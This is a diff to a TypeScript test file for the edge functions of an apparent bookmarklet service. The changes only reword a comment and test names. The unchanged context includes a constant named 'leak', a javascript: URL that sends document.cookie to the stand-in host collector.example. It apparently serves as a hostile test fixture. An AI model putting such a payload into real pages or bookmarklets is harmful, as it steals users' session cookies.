@@ -16,7 +16,7 @@ const bundleOf = (name: string) => join(folder, name, "index.js");
 const id = "3f0c2b9e-0000-4000-8000-000000000000";
 const leak = "javascript:void fetch('https://collector.example/?c='+document.cookie)";
 
-/** Everything the functions ask of a project. The database itself is tested in supabase/tests. */
+/** All endpoints of a project that the functions use. The database is tested in supabase/tests. */
 const PROJECT: Readonly<Record<string, (body: string) => unknown>> = {
 	"/rest/v1/bookmarklets": () => [{ id }],
 	"/rest/v1/versions": () => ({ id }),
@@ -90,7 +90,7 @@ describe("the edge functions, as sources and as the bundles that are deployed", 
 		return { status: answer.status, body: await answer.text() };
 	};
 
-	it.each(names.map((name, index) => [name, index] as const))("answer alike: %s", async (name, index) => {
+	it.each(names.map((name, index) => [name, index] as const))("give equal responses: %s", async (name, index) => {
 		for (const question of questions[name] ?? []) {
 			const [fromSource, fromBundle] = [running[2 * index], running[2 * index + 1]];
 			const answered = await ask(fromSource, question);
@@ -99,7 +99,7 @@ describe("the edge functions, as sources and as the bundles that are deployed", 
 		}
 	});
 
-	it("do their work", async () => {
+	it("perform their tasks", async () => {
 		const healthy = { status: 200, body: JSON.stringify({ status: "ok", bookmarklets: "readable" }) };
 		expect(await ask(running[1], { method: "GET" })).toEqual(healthy);
 		const [onCode, onVersion] = await Promise.all([
